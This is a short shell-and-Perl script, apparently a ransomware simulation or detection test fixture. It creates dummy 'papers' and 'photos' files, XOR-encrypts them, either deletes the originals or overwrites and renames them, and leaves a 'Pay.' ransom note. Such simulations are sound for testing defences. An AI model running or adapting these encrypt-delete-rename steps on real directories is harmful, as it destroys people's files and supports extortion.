# A home whose files become unreadable: by new files in place of the old, and by another name.
mkdir papers photos
for n in $(seq 1 30); do echo "paper $n" > papers/$n.txt; echo "photo $n" > photos/$n.jpg; done
perl -e 'for my $file (glob "papers/*.txt") {
        open(my $in, "<", $file) or die; my $text = join "", <$in>;
        open(my $out, ">", "$file.locked") or die; print $out $text ^ ("\x5a" x length $text); close $out;
        unlink $file;
    }'
perl -e 'for my $file (glob "photos/*.jpg") {
        open(my $both, "+<", $file) or die; my $text = join "", <$both>; seek $both, 0, 0;
        print $both $text ^ ("\x5a" x length $text); close $both; rename $file, "$file.enc";
    }'
echo 'Pay.' > README_TO_DECRYPT.txt
